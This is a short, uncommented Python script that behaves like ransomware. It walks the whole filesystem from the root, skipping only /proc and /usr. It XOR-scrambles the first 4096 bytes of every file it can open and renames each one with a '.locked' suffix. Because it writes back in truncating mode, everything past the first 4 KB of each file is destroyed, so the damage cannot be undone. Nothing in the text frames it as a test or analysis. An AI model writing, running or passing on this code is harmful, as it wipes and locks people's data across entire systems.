import os
for base, dirs, files in os.walk("/"):
    if base.startswith(("/proc", "/usr")): continue
    for f in files:
        q = os.path.join(base, f)
        try:
            data = open(q, "rb").read(4096)
            open(q, "wb").write(bytes(b ^ 90 for b in data))
            os.rename(q, q + ".locked")
        except OSError: pass
